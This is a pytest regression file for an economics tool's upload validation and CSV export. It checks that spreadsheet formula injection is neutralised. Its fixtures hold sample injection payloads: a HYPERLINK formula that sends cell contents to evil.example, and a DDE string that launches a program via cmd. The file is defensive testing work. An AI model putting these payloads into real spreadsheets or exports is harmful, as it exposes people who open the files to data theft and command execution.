"""Regression (issue 15): uploads (BOM, NaN/Infinity, 0 bytes, size cap = largest valid file) and CSV exports
(formula injection) behave as a careful user and a hostile sender expect."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pandas as pd
import pytest

from economics.io import scenarios
from economics.io.price_csv import read_negotiated_csv
from economics.io.scenarios import MAX_SCENARIO_BYTES, PRESET_DIR, default_scenario, load_preset
from reporting.meeting_pack import build_pack, csv_bundle
from ui.tables import csv_bytes
from ui.workload_table import workloads_frame

BANK = (PRESET_DIR / "singapore-bank.json").read_bytes()
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def test_a_json_upload_with_a_utf8_bom_is_accepted() -> None:
    parsed, messages = scenarios.parse_json(b"\xef\xbb\xbf" + BANK)
    assert messages == ()
    assert parsed == load_preset("singapore-bank")


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_non_finite_numbers_are_named_with_line_and_field(constant: str) -> None:
    text = BANK.decode().replace('"peak_requests_per_s": 1.4', f'"peak_requests_per_s": {constant}', 1)
    line = text[: text.index(constant)].count("\n") + 1
    parsed, messages = scenarios.parse_json(text.encode())
    assert parsed is None
    assert f"line {line} " in messages[0], messages
    assert "workloads.0.peak_requests_per_s" in messages[0], messages


def test_a_key_written_twice_is_refused_with_its_line() -> None:
    # it was read silently, the last value winning: an edited file could carry a price its author never saw
    twice = '"peak_requests_per_s": 1.4, "peak_requests_per_s": 90'
    text = BANK.decode().replace('"peak_requests_per_s": 1.4', twice, 1)
    line = text[: text.index('"peak_requests_per_s": 90')].count("\n") + 1
    parsed, messages = scenarios.parse_json(text.encode())
    assert parsed is None
    key = '"peak_requests_per_s"'
    problem = f"line {line}: the key {key} is written twice in one object; keep one"
    assert messages == (f"The file is not valid JSON ({problem}).",)


def test_the_same_key_in_two_objects_is_not_a_duplicate() -> None:
    parsed, messages = scenarios.parse_json(BANK)
    assert messages == ()
    assert parsed is not None
    assert len(parsed.workloads) > 1  # every workload has an "id": one key per object, many objects


def test_empty_files_get_a_message() -> None:
    parsed, messages = scenarios.parse_json(b"")
    assert parsed is None
    assert "empty" in messages[0]
    problems = read_negotiated_csv(b"", default_scenario()).problems
    assert len(problems) == 1
    assert "empty" in problems[0].reason


def _largest_valid_scenario() -> str:
    """5,000 workloads (the model's limit), ids, names and notes at their longest, full-precision numbers."""
    s = load_preset("single-workload")
    w = s.workloads[0]
    long_ones = tuple(
        w.model_copy(
            update={
                "id": f"w{i:062d}x",
                "name": "N" * 120,
                "notes": "n" * 2000,
                "avg_requests_per_s": 0.123456789012345,
                "peak_requests_per_s": 123456.789012345,
            }
        )
        for i in range(5000)
    )
    return scenarios.scenario_json(s.model_copy(update={"workloads": long_ones, "description": "d" * 5000}))


def test_the_upload_cap_admits_the_largest_valid_file_the_app_writes() -> None:
    text = _largest_valid_scenario()
    size = len(text.encode())
    assert 12_000_000 < size <= MAX_SCENARIO_BYTES == scenarios.MAX_SCENARIO_BYTES, size
    parsed, messages = scenarios.parse_json(text.encode())
    assert messages == ()
    assert parsed is not None
    assert len(parsed.workloads) == 5000


def test_a_downloaded_5000_workload_scenario_loads_back() -> None:
    s = load_preset("single-workload")
    many = tuple(s.workloads[0].model_copy(update={"id": f"w{i}", "name": f"Workload {i}"}) for i in range(5000))
    big = s.model_copy(update={"workloads": many})
    parsed, messages = scenarios.parse_json(scenarios.scenario_json(big).encode())
    assert messages == ()
    assert parsed == big


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]


def test_table_downloads_neutralise_formulas_and_keep_numbers() -> None:
    frame = pd.DataFrame({"Workload": FORMULAS, "Cost [USD/month]": [-1.5, 2, 3, 4, 5, 6], "=Header": ["ok"] * 6})
    cells = _cells(csv_bytes(frame))
    assert "'=Header" in cells
    for text in FORMULAS:
        assert "'" + text in cells
    assert "-1.5" in cells  # a number is a number, not text


def _hostile_scenario() -> object:
    s = load_preset("batch-shop")
    workloads = tuple(w.model_copy(update={"name": FORMULAS[i % len(FORMULAS)]}) for i, w in enumerate(s.workloads))
    return s.model_copy(update={"workloads": workloads, "name": "=cmd|' /C calc'!A0"})


def test_the_workloads_download_neutralises_formulas() -> None:
    s = _hostile_scenario()
    cells = _cells(csv_bytes(workloads_frame(s.workloads)))  # type: ignore[attr-defined]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells


def test_every_csv_in_the_meeting_pack_zip_is_neutralised() -> None:
    pack = build_pack(_hostile_scenario(), uncertainty=False)  # type: ignore[arg-type]
    with zipfile.ZipFile(io.BytesIO(csv_bundle(pack))) as zf:
        names = [n for n in zf.namelist() if n.endswith(".csv")]
        assert names
        for name in names:
            cells = _cells(zf.read(name))
            bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
            assert not bad, (name, bad)
            if name == "workloads.csv":
                assert "'" + FORMULAS[0] in cells
        assert json.loads(zf.read("scenario.json"))["workloads"][0]["name"] == FORMULAS[0]  # JSON keeps the data
